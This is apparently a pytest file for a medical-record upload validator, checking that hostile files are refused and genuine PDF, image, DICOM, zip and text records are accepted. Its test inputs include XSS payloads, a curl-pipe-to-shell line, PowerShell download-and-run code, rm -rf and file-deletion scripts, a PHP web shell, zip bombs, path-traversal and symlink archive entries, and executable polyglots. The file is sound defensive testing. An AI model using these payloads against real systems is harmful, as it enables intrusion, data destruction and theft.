"""Content-based file type checks: a corpus of hostile files, all built here, is refused with
a useful message; real records of every accepted kind pass.

The functions never see a file name, so "renamed" files are simply their bytes: the name a
family's computer would show is in each case's id.
"""

import gzip
import io
import stat
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pytest
from PIL import Image, TiffImagePlugin, TiffTags
from pydicom.dataset import FileDataset, FileMetaDataset
from pydicom.uid import (
    CTImageStorage,
    EncapsulatedPDFStorage,
    ExplicitVRLittleEndian,
    MediaStorageDirectoryStorage,
    generate_uid,
)

from intake import filezip
from intake.filetypes import (
    ACCEPTED_DESCRIPTION,
    HEAD_BYTES,
    MAX_RECORD_BYTES,
    Detected,
    Rejected,
    detect_head,
    validate_file,
)

# Rejection reasons are stored in Record.rejection_reason.
MESSAGE_LIMIT = 300


class WatchedFile(io.BytesIO):
    """A file that remembers the largest single read, to prove validation streams."""

    def __init__(self, data: bytes) -> None:
        super().__init__(data)
        self.largest_read = 0

    def read(self, size: int | None = -1) -> bytes:
        data = super().read(size)
        self.largest_read = max(self.largest_read, len(data))
        return data


def validate(data: bytes) -> Detected:
    return validate_file(WatchedFile(data), size=len(data))


def head_of(data: bytes) -> Detected:
    return detect_head(data[:HEAD_BYTES], size=len(data))


# --- builders of real records -------------------------------------------------------------

MINIMAL_PDF = (
    b"%PDF-1.4\n"
    b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
    b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
    b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >> endobj\n"
    b"xref\n0 4\n0000000000 65535 f \n0000000009 00000 n \n"
    b"0000000058 00000 n \n0000000115 00000 n \n"
    b"trailer << /Size 4 /Root 1 0 R >>\nstartxref\n186\n%%EOF\n"
)


def image(fmt: str, **options: Any) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (16, 16), (180, 40, 40)).save(buffer, fmt, **options)
    return buffer.getvalue()


def svs_tiff() -> bytes:
    return image(
        "TIFF",
        description="Aperio Image Library v12.0.15\n16x16 [0,0 16x16] JPEG/RGB Q=70|AppMag = 20",
    )


def ndpi_tiff() -> bytes:
    tags = TiffImagePlugin.ImageFileDirectory_v2()
    tags[65420] = 1  # Hamamatsu's NDPI format flag
    tags.tagtype[65420] = TiffTags.LONG
    return image("TIFF", tiffinfo=tags)


def dicom(
    *,
    preamble: bytes = b"\x00" * 128,
    sop_class: str = CTImageStorage,
    pixel_bytes: int = 1024,
) -> bytes:
    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID = sop_class
    meta.MediaStorageSOPInstanceUID = generate_uid()
    meta.TransferSyntaxUID = ExplicitVRLittleEndian
    dataset = FileDataset("record.dcm", {}, file_meta=meta, preamble=preamble)
    dataset.SOPClassUID = sop_class
    dataset.SOPInstanceUID = meta.MediaStorageSOPInstanceUID
    if sop_class == MediaStorageDirectoryStorage:
        dataset.FileSetID = "STUDY"
        dataset.DirectoryRecordSequence = []
    elif sop_class == EncapsulatedPDFStorage:
        dataset.Modality = "DOC"
        dataset.MIMETypeOfEncapsulatedDocument = "application/pdf"
        dataset.EncapsulatedDocument = MINIMAL_PDF
    else:
        dataset.PatientName = "Test^Child"
        dataset.Modality = "CT"
        dataset.Rows = pixel_bytes // 256
        dataset.Columns = 256
        dataset.BitsAllocated = 8
        dataset.BitsStored = 8
        dataset.HighBit = 7
        dataset.SamplesPerPixel = 1
        dataset.PhotometricInterpretation = "MONOCHROME2"
        dataset.PixelRepresentation = 0
        dataset.PixelData = bytes(range(256)) * (pixel_bytes // 256)
    buffer = io.BytesIO()
    dataset.save_as(buffer, enforce_file_format=True)
    return buffer.getvalue()


def make_zip(
    entries: list[tuple[str | zipfile.ZipInfo, bytes]],
    *,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        # zipfile warns about duplicate names, which one hostile case needs.
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
            for name, data in entries:
                archive.writestr(name, data)
    return buffer.getvalue()


def dicom_zip() -> bytes:
    return make_zip([("study/IM0001.dcm", dicom()), ("study/IM0002.dcm", dicom())])


class Unseekable(io.RawIOBase):
    """A pipe-like output: zipfile then writes data descriptors, as streaming zippers do."""

    def __init__(self) -> None:
        self.buffer = io.BytesIO()

    def writable(self) -> bool:
        return True

    def write(self, data: Any) -> int:
        return self.buffer.write(data)


def streamed_dicom_zip() -> bytes:
    out = Unseekable()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name in ("study/IM0001.dcm", "study/IM0002.dcm"):
            with archive.open(name, "w") as entry:
                entry.write(dicom())
    data = out.buffer.getvalue()
    assert all(info.flag_bits & 0x08 for info in zipfile.ZipFile(io.BytesIO(data)).infolist())
    return data


def zip64_dicom_zip() -> bytes:
    # The end records a zipper writes past 65,535 entries or 4 GB, added by hand.
    data = dicom_zip()
    end = data.rfind(b"PK\x05\x06")
    _, _, _, _, entries, size, offset, _ = struct.unpack_from("<4s4H2LH", data, end)
    record = struct.pack(
        "<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, entries, entries, size, offset
    )
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, end, 1)
    plain = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return data[:end] + record + locator + plain


def svs_with_directory_past_the_head() -> bytes:
    # A strip of pixels first and the directory after it, as large slides are written: the
    # head alone can't tell SVS from TIFF.
    width, height = 256, 300
    pixels = bytes(range(256)) * height
    description = b"Aperio Image Library v12.0.15\x00"
    ifd_offset = 8 + len(pixels)
    tags = [
        (256, 3, 1, width),
        (257, 3, 1, height),
        (258, 3, 1, 8),
        (259, 3, 1, 1),
        (262, 3, 1, 1),
        (270, 2, len(description), 0),
        (273, 4, 1, 8),
        (277, 3, 1, 1),
        (278, 3, 1, height),
        (279, 4, 1, len(pixels)),
    ]
    description_offset = ifd_offset + 2 + 12 * len(tags) + 4
    entries = b"".join(
        struct.pack("<HHII", tag, kind, count, description_offset if tag == 270 else value)
        if kind != 3
        else struct.pack("<HHIHH", tag, kind, count, value, 0)
        for tag, kind, count, value in tags
    )
    directory = struct.pack("<H", len(tags)) + entries + struct.pack("<I", 0)
    return b"II*\x00" + struct.pack("<I", ifd_offset) + pixels + directory + description


def central_headers(data: bytes) -> list[int]:
    positions = []
    start = data.find(b"PK\x01\x02")
    while start >= 0:
        positions.append(start)
        start = data.find(b"PK\x01\x02", start + 4)
    return positions


def patched(data: bytes, offset: int, fmt: str, *values: int) -> bytes:
    out = bytearray(data)
    struct.pack_into(fmt, out, offset, *values)
    return bytes(out)


# --- builders of hostile files ------------------------------------------------------------

HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/cases')</script></body></html>\n"
SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script></svg>\n"
)


def windows_executable() -> bytes:
    pe_offset = 0x80
    dos = bytearray(b"MZ" + bytes(pe_offset - 2))
    struct.pack_into("<I", dos, 0x3C, pe_offset)
    coff = struct.pack("<4sHHIIIHH", b"PE\x00\x00", 0x14C, 1, 0, 0, 0, 0xE0, 0x102)
    return bytes(dos) + coff + bytes(512)


def elf_executable() -> bytes:
    ident = b"\x7fELF\x02\x01\x01" + bytes(9)
    return ident + struct.pack("<HHI", 2, 0x3E, 1) + bytes(200)


def mach_o() -> bytes:
    return struct.pack("<IiiIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0) + bytes(200)


def java_class() -> bytes:
    return b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(100)


def word_document() -> bytes:
    return make_zip(
        [
            ("[Content_Types].xml", b'<?xml version="1.0"?><Types/>'),
            ("_rels/.rels", b'<?xml version="1.0"?><Relationships/>'),
            ("word/document.xml", b'<?xml version="1.0"?><w:document/>'),
        ]
    )


def ole_document() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def tar_archive() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        member = dicom()
        info = tarfile.TarInfo("study/IM0001.dcm")
        info.size = len(member)
        archive.addfile(info, io.BytesIO(member))
    return buffer.getvalue()


def zip_bomb() -> bytes:
    # 32 MiB of zeros deflate to ~32 KB; written in pieces so the test never holds the
    # whole expanded entry.
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive,
        archive.open("study/IM0001.dcm", "w") as entry,
    ):
        entry.write(dicom()[:132])
        piece = bytes(1024**2)
        for _ in range(32):
            entry.write(piece)
    return buffer.getvalue()


def zip_understating_size() -> bytes:
    # Declares 1,000 bytes (with the CRC of those 1,000) over a deflate stream of 2 MiB:
    # zipfile would stop at 1,000, other tools unpack everything.
    member = dicom() + bytes(2 * 1024**2)
    data = make_zip([("study/IM0001.dcm", member)])
    crc = zlib.crc32(member[:1000])
    (central,) = central_headers(data)
    data = patched(data, central + 16, "<I", crc)
    data = patched(data, central + 24, "<I", 1000)
    data = patched(data, 14, "<I", crc)
    return patched(data, 22, "<I", 1000)


def zip_with_encrypted_entry() -> bytes:
    data = make_zip([("study/IM0001.dcm", dicom())])
    (central,) = central_headers(data)
    data = patched(data, 6, "<H", 0x0001)
    return patched(data, central + 8, "<H", 0x0001)


def zip_with_symlink() -> bytes:
    link = zipfile.ZipInfo("study/IM0002.dcm")
    link.create_system = 3
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    return make_zip([("study/IM0001.dcm", dicom()), (link, b"/etc/passwd")])


def zip_with_overlapping_entries() -> bytes:
    # Two directory records for one local file: the quoted-overlap zip bomb trick.
    data = make_zip([("a.dcm", dicom()), ("b.dcm", dicom())])
    _, second = central_headers(data)
    return patched(data, second + 42, "<I", 0)


def zip_with_local_name_mismatch() -> bytes:
    data = make_zip([("study/IM0001.dcm", dicom())])
    return data[:30] + b"../../..IM01.dcm" + data[46:]


def zip_with_hidden_bytes() -> bytes:
    first = make_zip([("a.dcm", dicom())], compression=zipfile.ZIP_STORED)
    second = make_zip([("a.dcm", dicom()), ("b.dcm", dicom())], compression=zipfile.ZIP_STORED)
    # Shift the second entry: the archive still opens, with unreferenced bytes between.
    local_end = first.find(b"PK\x01\x02")
    hidden = b"<html><script>alert(1)</script></html>"
    data = second[:local_end] + hidden + second[local_end:]
    second_central = central_headers(data)[1]
    (offset,) = struct.unpack_from("<I", data, second_central + 42)
    data = patched(data, second_central + 42, "<I", offset + len(hidden))
    end = data.rfind(b"PK\x05\x06")
    (directory_offset,) = struct.unpack_from("<I", data, end + 16)
    return patched(data, end + 16, "<I", directory_offset + len(hidden))


def jpeg_with_html_comment() -> bytes:
    jpeg = image("JPEG")
    comment = b"<html><script>alert(document.domain)</script></html>"
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return jpeg[:2] + segment + jpeg[2:]


def jpeg_with_pdf_inside() -> bytes:
    jpeg = image("JPEG")
    comment = b"%PDF-1.4\n1 0 obj<<>>endobj"
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return jpeg[:2] + segment + jpeg[2:]


def big_text_with_late_script() -> bytes:
    line = b"Follow-up visit: growth on the 50th centile, no concerns.\n"
    return line * (3 * 1024**2 // len(line)) + b"<script>alert(1)</script>\n"


HOSTILE: list[Any] = [
    # (build, code, words in the message, also refused from the first bytes alone)
    pytest.param(lambda: HTML, "type", "web page", True, id="html-renamed-report.pdf"),
    pytest.param(lambda: HTML, "type", "web page", True, id="html-renamed-notes.txt"),
    pytest.param(lambda: b"\xef\xbb\xbf" + HTML, "type", "web page", True, id="html-with-bom"),
    pytest.param(
        lambda: b"\n\n   <!-- saved page --><html><body>hi</body></html>",
        "type",
        "web page",
        True,
        id="html-after-blank-lines",
    ),
    pytest.param(
        lambda: b"Dear doctor,\nplease see the results below.\n<img src=x onerror=alert(1)>\n",
        "type",
        "web page",
        True,
        id="html-disguised-as-text",
    ),
    pytest.param(
        lambda: b"<p>Results</p><a href=javascript:alert(1)>open</a>",
        "type",
        "web page",
        True,
        id="html-fragment",
    ),
    pytest.param(lambda: SVG, "type", "web page", True, id="svg-with-script-renamed.png"),
    pytest.param(
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "type",
        "web page",
        True,
        id="svg-without-xml-declaration",
    ),
    pytest.param(
        lambda: b'<?xml version="1.0"?>\n<ClinicalDocument><title>Note</title></ClinicalDocument>',
        "type",
        "web page",
        True,
        id="xml-document",
    ),
    pytest.param(
        lambda: b"var a = 1;\nfunction steal() { return document.cookie; }\nsteal();\n",
        "type",
        "program code",
        True,
        id="javascript",
    ),
    pytest.param(
        lambda: b"#!/usr/bin/env node\nrequire('child_process').exec('rm -rf ~');\n",
        "type",
        "program code",
        True,
        id="node-script",
    ),
    pytest.param(
        lambda: b"#!/bin/sh\ncurl https://example.invalid/x | sh\n",
        "type",
        "program code",
        True,
        id="shell-script",
    ),
    pytest.param(
        lambda: b"import os\n\n\ndef main():\n    os.system('calc')\n\n\nmain()\n",
        "type",
        "program code",
        True,
        id="python-script-without-shebang",
    ),
    pytest.param(
        lambda: b"$c = New-Object Net.WebClient\nInvoke-Expression $c.DownloadString('x')\n",
        "type",
        "program code",
        True,
        id="powershell",
    ),
    pytest.param(
        lambda: b"@echo off\r\ndel /q C:\\Users\\*\r\n",
        "type",
        "program code",
        True,
        id="windows-batch",
    ),
    pytest.param(lambda: b"<?php system($_GET['c']); ?>\n", "type", "", True, id="php"),
    pytest.param(windows_executable, "type", "Programs can't", True, id="windows-exe-renamed.pdf"),
    pytest.param(elf_executable, "type", "Programs can't", True, id="elf-executable"),
    pytest.param(mach_o, "type", "Programs can't", True, id="mach-o"),
    pytest.param(java_class, "type", "Programs can't", True, id="java-class"),
    pytest.param(word_document, "type", "Word", True, id="word-docx"),
    pytest.param(ole_document, "type", "Word", True, id="word-97-doc"),
    pytest.param(lambda: b"{\\rtf1\\ansi Results}", "type", "Word", True, id="rtf"),
    pytest.param(lambda: gzip.compress(dicom()), "type", ".zip", True, id="gzip"),
    pytest.param(tar_archive, "type", ".zip", True, id="tar"),
    pytest.param(lambda: b"7z\xbc\xaf\x27\x1c" + bytes(64), "type", ".zip", True, id="7z"),
    pytest.param(lambda: b"Rar!\x1a\x07\x01\x00" + bytes(64), "type", ".zip", True, id="rar"),
    pytest.param(lambda: image("GIF"), "type", "JPEG or PNG", True, id="gif"),
    pytest.param(lambda: "Hello".encode("utf-16"), "type", "UTF-16", True, id="utf16-text"),
    pytest.param(
        lambda: b"Results: \x1b[2J\x1b[31mnormal\x1b[0m\n", "type", "", True, id="ansi-escapes"
    ),
    pytest.param(lambda: bytes(range(256)) * 16, "type", "", True, id="binary-garbage"),
    pytest.param(lambda: b"", "empty", "empty", True, id="zero-bytes"),
    pytest.param(lambda: dicom()[132:], "type", "DICM header", True, id="dcm-without-preamble"),
    pytest.param(
        lambda: bytes(128) + b"DICM" + b"garbage that is not a DICOM header" * 4,
        "damaged",
        "damaged",
        False,
        id="dcm-preamble-then-garbage",
    ),
    pytest.param(
        lambda: dicom(preamble=windows_executable()[:128]),
        "type",
        "preamble",
        True,
        id="pe-dicom-polyglot",
    ),
    pytest.param(
        lambda: dicom(preamble=b"#!/bin/sh\nrm -rf ~\n".ljust(128, b" ")),
        "type",
        "preamble",
        True,
        id="script-in-dicom-preamble",
    ),
    pytest.param(
        lambda: b"%PDF-1.4\n<html><script>alert(1)</script></html>\n" + MINIMAL_PDF[9:],
        "type",
        "web page",
        True,
        id="pdf-html-polyglot",
    ),
    pytest.param(jpeg_with_html_comment, "type", "web page", True, id="jpeg-html-polyglot"),
    pytest.param(jpeg_with_pdf_inside, "type", "contains a PDF", True, id="jpeg-pdf-polyglot"),
    pytest.param(
        lambda: image("JPEG") + make_zip([("run.exe", windows_executable())]),
        "type",
        "zip archive hidden",
        False,
        id="jpeg-with-zip-appended",
    ),
    pytest.param(
        lambda: MINIMAL_PDF + dicom_zip(),
        "type",
        "zip archive hidden",
        False,
        id="pdf-with-zip-appended",
    ),
    pytest.param(
        lambda: b"\x89PNG\r\n\x1a\n<html><body>not a picture</body></html>",
        None,
        "",
        True,
        id="png-signature-then-html",
    ),
    pytest.param(
        big_text_with_late_script, "type", "web page", False, id="script-after-3-mib-of-text"
    ),
    # Zip archives: only the full check can see these.
    pytest.param(zip_bomb, "zip", "overload", False, id="zip-bomb"),
    pytest.param(zip_understating_size, "zip", "larger than the zip says", False, id="zip-lies"),
    pytest.param(
        lambda: make_zip([("study/IM0001.dcm", dicom()), ("../../.bashrc", dicom())]),
        "zip",
        "unsafe name",
        False,
        id="zip-dot-dot-traversal",
    ),
    pytest.param(
        lambda: make_zip([("/etc/cron.d/evil", dicom())]),
        "zip",
        "unsafe name",
        False,
        id="zip-absolute-path",
    ),
    pytest.param(
        lambda: make_zip([("..\\..\\Startup\\evil.dcm", dicom())]),
        "zip",
        "unsafe name",
        False,
        id="zip-backslash-traversal",
    ),
    pytest.param(
        lambda: make_zip([("C:/Windows/evil.dcm", dicom())]),
        "zip",
        "unsafe name",
        False,
        id="zip-drive-letter",
    ),
    pytest.param(zip_with_symlink, "zip", "link", False, id="zip-symlink"),
    pytest.param(
        lambda: make_zip([("study/IM0001.dcm", dicom()), ("study/report.pdf", MINIMAL_PDF)]),
        "zip",
        "not a DICOM file",
        False,
        id="zip-with-non-dicom-entry",
    ),
    pytest.param(
        lambda: make_zip([("study/IM0001.dcm", dicom()), ("autorun.inf", b"[autorun]\r\n")]),
        "zip",
        "not a DICOM file",
        False,
        id="zip-with-autorun",
    ),
    pytest.param(
        lambda: make_zip([("study/" + "long name " * 40 + ".pdf", MINIMAL_PDF)]),
        "zip",
        "not a DICOM file",
        False,
        id="zip-with-long-entry-name",
    ),
    pytest.param(
        lambda: make_zip([("../" * 80 + "evil\x1b[2J.dcm", dicom())]),
        "zip",
        "unsafe name",
        False,
        id="zip-long-traversal-name-with-escapes",
    ),
    pytest.param(
        lambda: make_zip([("inner.dcm", dicom_zip())]),
        "zip",
        "another archive",
        False,
        id="nested-zip",
    ),
    pytest.param(zip_with_encrypted_entry, "zip", "password", False, id="zip-encrypted-entry"),
    pytest.param(
        lambda: make_zip([("IM0001.dcm", dicom(preamble=windows_executable()[:128]))]),
        "zip",
        "preamble",
        False,
        id="zip-with-pe-dicom-polyglot",
    ),
    pytest.param(
        lambda: make_zip([("IM0001.dcm", dicom()[132:])]),
        "zip",
        "not a DICOM file",
        False,
        id="zip-with-dcm-without-preamble",
    ),
    pytest.param(
        lambda: make_zip([("IM0001.dcm", dicom()), ("IM0001.dcm", windows_executable())]),
        "zip",
        "two files named",
        False,
        id="zip-duplicate-names",
    ),
    pytest.param(
        zip_with_overlapping_entries, "damaged", "damaged", False, id="zip-overlapping-entries"
    ),
    pytest.param(
        zip_with_local_name_mismatch, "damaged", "damaged", False, id="zip-local-name-differs"
    ),
    pytest.param(zip_with_hidden_bytes, "damaged", "damaged", False, id="zip-hidden-bytes"),
    pytest.param(
        lambda: dicom_zip() + HTML, "zip", "extra data after its end", False, id="zip-then-html"
    ),
    pytest.param(
        lambda: make_zip([("study/", b"")]), "zip", "no DICOM files", False, id="zip-only-folder"
    ),
    pytest.param(lambda: dicom_zip()[:-40], "damaged", "damaged", False, id="zip-truncated"),
    pytest.param(
        lambda: make_zip([("study/IM0001.dcm", dicom())], compression=zipfile.ZIP_BZIP2),
        "zip",
        "compression method",
        False,
        id="zip-bzip2",
    ),
]


@pytest.mark.parametrize(("build", "code", "words", "at_head"), HOSTILE)
def test_hostile_files_are_refused(
    build: Callable[[], bytes], code: str | None, words: str, at_head: bool
) -> None:
    data = build()
    with pytest.raises(Rejected) as refused:
        validate(data)
    rejection = refused.value
    if code is not None:
        assert rejection.code == code, rejection.message
    assert words in rejection.message
    assert len(rejection.message) <= MESSAGE_LIMIT
    if rejection.code == "type":
        assert ACCEPTED_DESCRIPTION in rejection.message
    if at_head:
        with pytest.raises(Rejected):
            head_of(data)
    elif rejection.code in ("zip", "damaged") and data.startswith(b"PK"):
        # The first bytes alone can only say "a zip"; the entries are checked in full.
        assert head_of(data).kind == "dicom_zip"


def test_over_the_size_limit_is_refused_from_the_head_alone() -> None:
    with pytest.raises(Rejected) as refused:
        detect_head(MINIMAL_PDF, size=MAX_RECORD_BYTES + 1)
    assert refused.value.code == "too_large"
    assert "5 GB" in refused.value.message


def test_over_the_size_limit_is_refused_before_reading_further() -> None:
    with pytest.raises(Rejected) as refused:
        validate_file(io.BytesIO(MINIMAL_PDF), size=MAX_RECORD_BYTES + 1)
    assert refused.value.code == "too_large"


def test_exactly_the_size_limit_is_allowed_from_the_head() -> None:
    assert detect_head(MINIMAL_PDF, size=MAX_RECORD_BYTES).kind == "pdf"


def test_zero_size_is_refused_even_with_bytes_claimed() -> None:
    with pytest.raises(Rejected) as refused:
        detect_head(b"", size=0)
    assert refused.value.code == "empty"


def test_too_many_zip_entries(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(filezip, "MAX_ZIP_ENTRIES", 3)
    data = make_zip([(f"IM{i:04}.dcm", dicom()) for i in range(4)])
    with pytest.raises(Rejected) as refused:
        validate(data)
    assert refused.value.code == "zip"
    assert "more than 3 files" in refused.value.message


def test_zip_unpacking_past_the_total_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(filezip, "MAX_ZIP_UNCOMPRESSED_BYTES", 2000)
    data = make_zip([(f"IM{i:04}.dcm", dicom(pixel_bytes=1024)) for i in range(2)])
    with pytest.raises(Rejected) as refused:
        validate(data)
    assert refused.value.code == "zip"
    assert "would unpack to more than" in refused.value.message


def test_wrong_size_is_a_caller_bug() -> None:
    with pytest.raises(ValueError, match="size"):
        validate_file(io.BytesIO(MINIMAL_PDF), size=len(MINIMAL_PDF) + 1)


# --- accepted records ---------------------------------------------------------------------

ACCEPTED: list[Any] = [
    pytest.param(lambda: MINIMAL_PDF, "pdf", "application/pdf", id="pdf"),
    pytest.param(lambda: image("JPEG"), "jpeg", "image/jpeg", id="jpeg"),
    pytest.param(lambda: image("PNG"), "png", "image/png", id="png"),
    pytest.param(lambda: image("TIFF"), "tiff", "image/tiff", id="tiff"),
    pytest.param(lambda: image("TIFF", big_tiff=True), "tiff", "image/tiff", id="bigtiff"),
    pytest.param(svs_tiff, "wsi_svs", "image/tiff", id="svs"),
    pytest.param(ndpi_tiff, "wsi_ndpi", "image/tiff", id="ndpi"),
    pytest.param(dicom, "dicom", "application/dicom", id="dicom"),
    pytest.param(
        lambda: dicom(preamble=image("TIFF")[:128].ljust(128, b"\x00")),
        "dicom",
        "application/dicom",
        id="dicom-with-tiff-preamble",
    ),
    pytest.param(
        lambda: dicom(sop_class=EncapsulatedPDFStorage),
        "dicom",
        "application/dicom",
        id="dicom-encapsulated-pdf-report",
    ),
    pytest.param(dicom_zip, "dicom_zip", "application/zip", id="zip-of-two-dicom-files"),
    pytest.param(
        lambda: make_zip(
            [
                ("STUDY/", b""),
                ("STUDY/DICOMDIR", dicom(sop_class=MediaStorageDirectoryStorage)),
                ("STUDY/DICOM/IM0001", dicom()),
                ("STUDY/DICOM/IM0002", dicom()),
            ]
        ),
        "dicom_zip",
        "application/zip",
        id="zip-of-disc-export-with-dicomdir",
    ),
    pytest.param(
        lambda: make_zip(
            [
                ("study/IM0001.dcm", dicom()),
                ("study/.DS_Store", b"\x00\x00\x00\x01Bud1" + bytes(64)),
                ("__MACOSX/study/._IM0001.dcm", b"\x00\x05\x16\x07" + bytes(78)),
            ]
        ),
        "dicom_zip",
        "application/zip",
        id="zip-made-by-macos",
    ),
    pytest.param(
        lambda: make_zip([("IM0001.dcm", dicom())], compression=zipfile.ZIP_STORED),
        "dicom_zip",
        "application/zip",
        id="zip-stored",
    ),
    pytest.param(
        streamed_dicom_zip, "dicom_zip", "application/zip", id="zip-with-data-descriptors"
    ),
    pytest.param(zip64_dicom_zip, "dicom_zip", "application/zip", id="zip64-end-records"),
    pytest.param(
        lambda: make_zip([("Études/IM0001.dcm", dicom()), ("Études/IM0002.dcm", dicom())]),
        "dicom_zip",
        "application/zip",
        id="zip-with-utf8-names",
    ),
    pytest.param(
        lambda: "Discharge summary\n\nEmma, 6 years. Temp 38.5 °C, SpO₂ 97 %.\n".encode(),
        "text",
        "text/plain; charset=utf-8",
        id="utf8-text",
    ),
    pytest.param(
        lambda: "\ufeffLetter from Dr. Müller\r\nAll well.\r\n".encode(),
        "text",
        "text/plain; charset=utf-8",
        id="utf8-text-with-bom",
    ),
    pytest.param(
        lambda: "Résumé: état stable, 37,5 °C\n".encode("cp1252"),
        "text",
        "text/plain; charset=windows-1252",
        id="windows-1252-text",
    ),
    pytest.param(
        lambda: b"date,test,value,unit\n2024-01-01,Hb,12.1,g/dL\n2024-02-01,Hb,11.8,g/dL\n",
        "text",
        "text/plain; charset=utf-8",
        id="csv-lab-results",
    ),
    pytest.param(
        lambda: (
            b"#include: all notes since birth\nc  clinic letter\nLet me know if the import "
            b"of records fails.\nBP <120/80, weight <3rd centile.\n"
        ),
        "text",
        "text/plain; charset=utf-8",
        id="prose-libmagic-calls-code",
    ),
    pytest.param(
        lambda: b"MSH|^~\\&|LAB|HOSP|||202401011200||ORU^R01|1|P|2.5\rPID|1||123||DOE^JANE\r",
        "text",
        "text/plain; charset=utf-8",
        id="hl7-message",
    ),
    pytest.param(
        lambda: (
            b"Eval (ENT): normal hearing.\nExec summary (by Dr. Lee): stable.\n"
            b"Class II: mild symptoms.\nLet x = the dose in mg; adjust weekly.\n"
        ),
        "text",
        "text/plain; charset=utf-8",
        id="prose-with-code-like-words",
    ),
]


@pytest.mark.parametrize(("build", "kind", "content_type"), ACCEPTED)
def test_real_records_are_accepted(
    build: Callable[[], bytes], kind: str, content_type: str
) -> None:
    data = build()
    detected = validate(data)
    assert detected == Detected(kind=kind, content_type=content_type)
    head = head_of(data)
    if kind == "dicom_zip":
        assert head.kind == "dicom_zip"
    else:
        assert head.kind == kind


def test_tiff_directory_past_the_head_is_resolved_by_the_full_check() -> None:
    data = svs_with_directory_past_the_head()
    assert len(data) > HEAD_BYTES
    assert head_of(data).kind == "tiff"
    assert validate(data).kind == "wsi_svs"


def test_a_character_cut_by_the_head_is_not_a_decoding_error() -> None:
    data = b"a" * (HEAD_BYTES - 1) + "é\n".encode()
    assert head_of(data) == Detected(kind="text", content_type="text/plain; charset=utf-8")
    assert validate(data).kind == "text"


def test_a_missing_head_is_a_caller_bug() -> None:
    with pytest.raises(ValueError, match="head"):
        detect_head(b"", size=10)


def test_detected_gives_the_download_extension() -> None:
    assert validate(svs_tiff()).extension == ".svs"
    assert validate(dicom_zip()).extension == ".zip"
    assert validate(b"hello\n").extension == ".txt"


def test_validation_leaves_the_file_at_the_start() -> None:
    data = dicom_zip()
    fileobj = io.BytesIO(data)
    validate_file(fileobj, size=len(data))
    assert fileobj.tell() == 0


def test_large_files_are_streamed_not_read_whole() -> None:
    text = b"Growth and development normal.\n" * (6 * 1024**2 // 31)
    big_dicom = dicom(pixel_bytes=6 * 1024**2)
    stored_zip = make_zip([("IM0001.dcm", big_dicom)], compression=zipfile.ZIP_STORED)
    for data, kind in ((text, "text"), (big_dicom, "dicom"), (stored_zip, "dicom_zip")):
        fileobj = WatchedFile(data)
        assert validate_file(fileobj, size=len(data)).kind == kind
        assert fileobj.largest_read <= 1024**2, kind


def test_detect_head_needs_only_the_head() -> None:
    # A long text whose head is plain: the head check passes, the full check reads on.
    data = big_text_with_late_script()
    assert detect_head(data[:HEAD_BYTES], size=len(data)).kind == "text"


def test_type_message_names_every_accepted_kind() -> None:
    with pytest.raises(Rejected) as refused:
        validate(windows_executable())
    for kind in ("PDF", "JPEG", "PNG", "TIFF", "DICOM", ".zip", "SVS", "NDPI", "plain text"):
        assert kind in refused.value.message
